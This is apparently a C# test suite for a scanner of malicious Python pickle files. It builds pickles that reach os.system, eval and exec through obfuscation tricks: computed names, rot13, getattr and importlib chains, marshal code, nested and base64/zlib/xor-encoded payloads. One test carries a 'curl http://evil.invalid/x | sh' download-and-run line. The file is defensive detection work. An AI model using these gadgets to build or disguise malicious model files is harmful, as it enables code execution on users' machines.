// Computed names, trampolines and hidden payloads, by the numbers of the requirements.
using System.Text;
using Assay.Artifacts;
using Assay.Detection.Intents;
using Assay.Detection;
using Assay.Pickle;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;

namespace Assay.Tests.Evaluation;

public sealed class ThreatTests
{
    [Fact]
    public void T011_NameJoinedFromPartsIsMalicious() =>
        Reaches(P().Str("os").Call("builtins", "str.join", p => p.Str(""), p => p.List(q => q.Str("sys"), q => q.Str("tem"))).Op(Op.STACK_GLOBAL).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T011_ModuleDecodedFromRot13IsMalicious() =>
        Reaches(P().Call("codecs", "decode", p => p.Str("ohvygvaf"), p => p.Str("rot13")).Str("eval").Op(Op.STACK_GLOBAL).CallTop(p => p.Str("1+1")), "builtins.eval");

    [Fact]
    public void T011_NameByIndexIsMalicious() =>
        Reaches(P().Str("os").Call("operator", "getitem", p => p.Str("metsys"), p => p.Call("builtins", "slice", q => q.None(), q => q.None(), q => q.Int(-1))).Op(Op.STACK_GLOBAL).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T011_NameThatCannotBeFoldedIsSuspicious()
    {
        TargetReport report = Folded.Scan(P().Str("numpy").Call("platform", "node").Op(Op.STACK_GLOBAL).Stop().ToArray());
        Assert.True(report.Verdict >= Verdict.Suspicious);
        Assert.Contains(report.Findings, f => f.Rule.Id == "pickle-computed-name");
    }

    [Fact]
    public void T011_NameThatFoldsToSomethingHarmlessIsSuspiciousAllTheSame()
    {
        TargetReport report = Folded.Scan(P().Str("collections").Call("builtins", "str.join", p => p.Str(""), p => p.List(q => q.Str("Ordered"), q => q.Str("Dict"))).Op(Op.STACK_GLOBAL).EmptyTuple().Reduce().Stop().ToArray());
        Assert.Equal(Verdict.Suspicious, report.Verdict);
    }

    [Fact]
    public void T024_AttributeChainOverModulesIsMalicious() =>
        Reaches(P().Call("builtins", "getattr", p => p.Call("importlib", "import_module", q => q.Str("os")), p => p.Str("system")).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T024_ItemOfSysModulesIsMalicious() =>
        Reaches(P().Call("builtins", "getattr", p => p.Call("operator", "getitem", q => q.StackGlobal("sys", "modules"), q => q.Str("os")), p => p.Str("popen")).CallTop(p => p.Str("id")), "os.popen");

    [Fact]
    public void T024_ItemOfModuleDictIsMalicious() =>
        Reaches(P().Call("operator", "getitem", p => p.Call("builtins", "vars", q => q.Call("builtins", "__import__", r => r.Str("subprocess"))), p => p.Str("check_output")).CallTop(p => p.Str("id")), "subprocess.check_output");

    [Fact]
    public void T024_BuiltinsThroughGlobalsOfAFunctionIsMalicious() =>
        Reaches(P().Call("operator", "getitem", p => p.Call("operator", "getitem", q => q.Call("builtins", "getattr", r => r.StackGlobal("json", "dumps"), r => r.Str("__globals__")), q => q.Str("__builtins__")), p => p.Str("exec")).CallTop(p => p.Str("x=1")), "builtins.exec");

    [Fact]
    public void T024_SubclassesOfObjectAreMalicious() =>
        Assert.Equal(Verdict.Malicious, Folded.Scan(P().Call("builtins", "getattr", p => p.Call("builtins", "getattr", q => q.EmptyTuple(), q => q.Str("__class__")), p => p.Str("__subclasses__")).CallTop().Stop().ToArray()).Verdict);

    [Theory]
    [InlineData("importlib", "import_module")]
    [InlineData("builtins", "__import__")]
    [InlineData("pydoc", "locate")]
    [InlineData("unittest.mock", "_importer")]
    public void T025_ImporterAndGetattrIsMalicious(string module, string name) =>
        Reaches(P().Call("builtins", "getattr", p => p.Call(module, name, q => q.Str("os")), p => p.Str("system")).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T025_ResolveNameIsMalicious() =>
        Reaches(P().Call("pkgutil", "resolve_name", p => p.Str("os:system")).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T025_AttrgetterIsMalicious() =>
        Reaches(P().Call("operator", "attrgetter", p => p.Str("system")).CallTop(p => p.Call("importlib", "import_module", q => q.Str("os"))).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void T025_MethodcallerIsMaliciousAndItsArgumentIsSeen()
    {
        byte[] pickle = P().Call("operator", "methodcaller", p => p.Str("system"), p => p.Str("id")).CallTop(p => p.Call("importlib", "import_module", q => q.Str("os"))).Stop().ToArray();
        Reaches(pickle, "os.system");
        Assert.Contains(Folded.Read(pickle).Facts.OfType<TextFact>(), t => t is { Kind: "shell-command", Text: "id" });
    }

    [Fact]
    public void T026_PartialOfAGadgetIsMaliciousAndItsArgumentIsSeen()
    {
        byte[] pickle = P().Call("functools", "partial", p => p.StackGlobal("os", "system"), p => p.Str("touch /tmp/x")).EmptyTuple().Reduce().Stop().ToArray();
        Reaches(pickle, "os.system");
        Assert.Contains(Folded.Read(pickle).Facts.OfType<TextFact>(), t => t is { Kind: "shell-command", Text: "touch /tmp/x" });
    }

    [Theory]
    [InlineData("builtins", "map")]
    [InlineData("builtins", "filter")]
    [InlineData("functools", "reduce")]
    public void T026_GadgetHandedToACallerIsMalicious(string module, string name) =>
        Reaches(P().Call(module, name, p => p.StackGlobal("os", "system"), p => p.List(q => q.Str("id"), q => q.Str("whoami"))), "os.system");

    [Fact]
    public void T026_ComputedGadgetHandedToACallerIsMalicious() =>
        Reaches(P().Call("builtins", "map", p => p.Call("builtins", "getattr", q => q.Call("importlib", "import_module", r => r.Str("os")), q => q.Str("system")), p => p.List(q => q.Str("id"))), "os.system");

    [Fact]
    public void T027_MarshalledCodeIsReadAndMalicious()
    {
        byte[] code = CPython.Run("import marshal, sys; sys.stdout.buffer.write(marshal.dumps(compile('import os\\ndef f():\\n os.system(\"id\")', 'x', 'exec')))");
        byte[] pickle = P().Call("types", "FunctionType", p => p.Call("marshal", "loads", q => q.Bytes(code)), p => p.Op(Op.EMPTY_DICT)).EmptyTuple().Reduce().Stop().ToArray();
        Assert.Equal(Verdict.Malicious, Folded.Scan(pickle).Verdict);
        TextFact names = Assert.Single(Folded.Read(pickle).Facts.OfType<TextFact>(), t => t.Kind == "code-names");
        Assert.Contains("system", names.Text.Split(' '));
        Assert.Contains("marshal", names.Layers);
        Assert.Contains(Folded.Read(pickle).Intents(), i => i.Intent == "command-execution");
    }

    [Fact]
    public void T027_SourceForAnInterpreterIsSeen()
    {
        byte[] pickle = P().Call("dataclasses", "_create_fn", p => p.Str("f"), p => p.List(), p => p.List(q => q.Str("import os; os.system('id')"))).Stop().ToArray();
        Assert.Equal(Verdict.Malicious, Folded.Scan(pickle).Verdict);
        Assert.Contains(Folded.Read(pickle).Facts.OfType<TextFact>(), t => t.Kind == "python-source" && t.Text.Contains("os.system", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("idlelib.calltip", "get_entity", "python-source")]
    [InlineData("somepackage.deep", "helper", "code-like-text")]
    public void T027_SourceForSomethingElseIsSeen(string module, string name, string kind)
    {
        Recording(P().Call(module, name, p => p.Str("__import__('os').system('whoami')")).Stop().ToArray(), out List<TextFact> texts, out List<IntentFact> intents);
        Assert.Contains(texts, t => t.Kind == kind);
        Assert.Contains(intents, i => i.Intent == "command-execution");
        Assert.Contains(intents, i => i.Intent == "proof-of-concept");
    }

    [Fact]
    public void T027_SourceForAMethodOfAnInstanceIsSeen()
    {
        byte[] pickle = P().Call("builtins", "getattr", p => p.Call("code", "InteractiveInterpreter"), p => p.Str("runsource")).CallTop(p => p.Str("import os; os.system('id')")).Stop().ToArray();
        Assert.Equal(Verdict.Malicious, Folded.Scan(pickle).Verdict);
        Recording(pickle, out List<TextFact> texts, out _);
        Assert.Contains(texts, t => t.Kind == "python-source");
    }

    [Fact]
    public void T024_CallOfACallIsTheCall()
    {
        Recording(P().Call("builtins", "eval.__call__", p => p.Str("1+1")).Stop().ToArray(), out List<TextFact> texts, out _);
        Assert.Contains(texts, t => t is { Kind: "python-source", Text: "1+1" });
    }

    [Fact]
    public void T028_WrittenSourceIsSeen()
    {
        byte[] pickle = P().Call("pathlib", "Path.write_text", p => p.Call("pathlib", "Path", q => q.Str("/tmp/m.py")), p => p.Str("import os; os.system('id')")).Pop()
            .Call("importlib.machinery", "SourceFileLoader", p => p.Str("m"), p => p.Str("/tmp/m.py")).Stop().ToArray();
        Assert.Equal(Verdict.Malicious, Folded.Scan(pickle).Verdict);
        Assert.Contains(Folded.Read(pickle).Facts.OfType<TextFact>(), t => t.Kind == "file-content" && t.Text.Contains("os.system", StringComparison.Ordinal));
    }

    [Fact]
    public void T029_ModuleThatMakesCommandsOfNamesIsMalicious() =>
        Reaches(P().Call("builtins", "getattr", p => p.Call("importlib", "import_module", q => q.Str("sh")), p => p.Str("rm")).CallTop(p => p.Str("x")), "sh.rm");

    [Fact]
    public void T030_DeferredCallOfAPartialIsMaliciousAndNamed()
    {
        byte[] pickle = P().Call("atexit", "register", p => p.StackGlobal("os", "system"), p => p.Str("id")).Stop().ToArray();
        Reaches(pickle, "atexit.register");
        Assert.Contains(Folded.Read(pickle).Intents(), i => i is { Intent: "deferred-execution", Confidence: IntentConfidence.High });
    }

    [Theory]
    [InlineData("pickle", "loads")]
    [InlineData("_pickle", "loads")]
    [InlineData("dill", "loads")]
    [InlineData("cloudpickle", "loads")]
    public void T031_NestedPickleIsReadWithoutItsHeader(string module, string name)
    {
        byte[] inner = "cos\nsystem\n(S'id'\ntR."u8.ToArray();
        TargetReport report = Folded.Scan(P().Call(module, name, p => p.Bytes(inner)).Stop().ToArray());
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Findings, f => f.Path.Contains("!/", StringComparison.Ordinal) && f.Evidence.Any(e => e.Text == "os.system"));
    }

    [Fact]
    public void T031_NestedPickleThatIsComputedIsRead()
    {
        byte[] inner = "cos\nsystem\n(S'id'\ntR."u8.ToArray();
        TargetReport report = Folded.Scan(P().Call("pickle", "loads", p => p.Call("base64", "b64decode", q => q.Str(Convert.ToBase64String(inner)))).Stop().ToArray());
        Assert.Contains(report.Findings, f => f.Path.Contains("!/", StringComparison.Ordinal) && f.Evidence.Any(e => e.Text == "os.system"));
    }

    [Fact]
    public void T032_NestedPickleThatNobodyLoadsIsNotMadeWorse()
    {
        byte[] inner = PickleBuilder.Protocol(4).Str("a long and plain text value").Stop().ToArray();
        Assert.Equal(Verdict.Passed, Folded.Scan(P().Bytes(inner).Stop().ToArray()).Verdict);
    }

    [Theory]
    [InlineData("base64", "b64decode", "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=", "base64")]
    [InlineData("binascii", "unhexlify", "696d706f7274206f733b206f732e73797374656d2827696427 29", null)]
    [InlineData("binascii", "unhexlify", "696d706f7274206f733b206f732e73797374656d2827696427293b", "hex")]
    public void T033_DecodedSourceIsSeenWithItsLayer(string module, string name, string text, string? layer)
    {
        byte[] pickle = P().Call("builtins", "exec", p => p.Call(module, name, q => q.Str(text))).Stop().ToArray();
        Assert.Equal(Verdict.Malicious, Folded.Scan(pickle).Verdict);
        TextFact? source = Folded.Read(pickle).Facts.OfType<TextFact>().FirstOrDefault(t => t.Kind == "python-source" && t.Text.StartsWith("import os", StringComparison.Ordinal));
        Assert.Equal(layer is null ? null : [layer], source?.Layers);
    }

    [Fact]
    public void T033_LayersInsideSourceAreUndone()
    {
        string inner = "import os; os.system('curl http://evil.invalid/x | sh')";
        byte[] packed = Zlib(Encoding.UTF8.GetBytes(inner));
        string outer = $"import base64,zlib; exec(zlib.decompress(base64.b64decode('{Convert.ToBase64String(packed)}')))";
        Recording(P().Call("builtins", "exec", p => p.Str(outer)).Stop().ToArray(), out List<TextFact> texts, out List<IntentFact> intents);
        TextFact found = Assert.Single(texts, t => t.Text == inner);
        Assert.Equal(["base64", "zlib"], found.Layers);
        Assert.Contains(intents, i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });
    }

    [Fact]
    public void T033_XorIsUndone()
    {
        byte[] hidden = [.. "os.system('id')"u8.ToArray().Select(b => (byte)(b ^ 0x55))];
        byte[] pickle = P().Call("builtins", "eval", p => p.Call("builtins", "bytes", q => q.Call("builtins", "map", r => r.StackGlobal("operator", "xor"), r => r.Bytes(hidden), r => r.Bytes([.. Enumerable.Repeat((byte)0x55, hidden.Length)])))).Stop().ToArray();
        Recording(pickle, out List<TextFact> texts, out _);
        Assert.Contains(texts, t => t is { Kind: "python-source", Text: "os.system('id')" });
    }

    [Fact]
    public void T050_CodeObjectOfDillIsJudgedByItsNames()
    {
        TargetReport report = Folded.Scan(P().Call("types", "CodeType", p => p.Int(0), p => p.Int(0), p => p.Int(0), p => p.Int(0), p => p.Int(1), p => p.Int(64), p => p.Bytes("d"u8),
            p => p.Mark().Str("id").Tuple(), p => p.Mark().Str("os").Str("system").Tuple(), p => p.EmptyTuple(), p => p.Str("f"), p => p.Str("f"), p => p.Int(1), p => p.Bytes([])).Stop().ToArray());
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Findings, f => f.Rule.Id == "payload-intent" && f.Evidence.Any(e => e.Text == "command-execution"));
    }

    [Fact]
    public void TwoResultsOfGetattrAreNotOneCall()
    {
        byte[] pickle = P()
            .Call("builtins", "getattr", p => p.StackGlobal("collections", "OrderedDict"), p => p.Str("fromkeys")).CallTop(p => p.Str("id")).Pop()
            .Call("builtins", "getattr", p => p.Call("importlib", "import_module", q => q.Str("os")), p => p.Str("system")).CallTop(p => p.Str("id")).Stop().ToArray();
        Reaches(pickle, "os.system");
    }

    [Fact]
    public void ExtensionThatTheStreamRegistersIsResolved() =>
        Reaches(P().Call("copyreg", "add_extension", p => p.Str("os"), p => p.Str("system"), p => p.Int(7)).Pop().Op(Op.EXT1).Raw(7).CallTop(p => p.Str("id")), "os.system");

    [Fact]
    public void DerivationTellsEachStep()
    {
        byte[] pickle = P().Call("builtins", "getattr", p => p.Call("importlib", "import_module", q => q.Str("os")), p => p.Str("system")).CallTop(p => p.Str("id")).Stop().ToArray();
        CallableFact fact = Assert.Single(Folded.Read(pickle).Facts.OfType<CallableFact>(), f => f is { Resolved: "os.system", Use: CallableUse.Called });
        Assert.Equal("builtins.getattr()", fact.Callee);
        Assert.Equal(2, fact.Derivation.Count);
    }

    private static PickleBuilder P() => PickleBuilder.Protocol(4);

    private static void Reaches(PickleBuilder builder, string callable) => Reaches(builder.Stop().ToArray(), callable);

    private static void Reaches(byte[] pickle, string callable)
    {
        TargetReport report = Folded.Scan(pickle);
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(callable, report.Callables());
    }

    private static void Recording(byte[] pickle, out List<TextFact> texts, out List<IntentFact> intents)
    {
        var recording = Folded.Read(pickle);
        texts = [.. recording.Facts.OfType<TextFact>()];
        intents = [.. recording.Intents()];
    }

    private static byte[] Zlib(byte[] bytes)
    {
        using MemoryStream packed = new();
        using (System.IO.Compression.ZLibStream zlib = new(packed, System.IO.Compression.CompressionLevel.SmallestSize))
        {
            zlib.Write(bytes);
        }

        return packed.ToArray();
    }
}
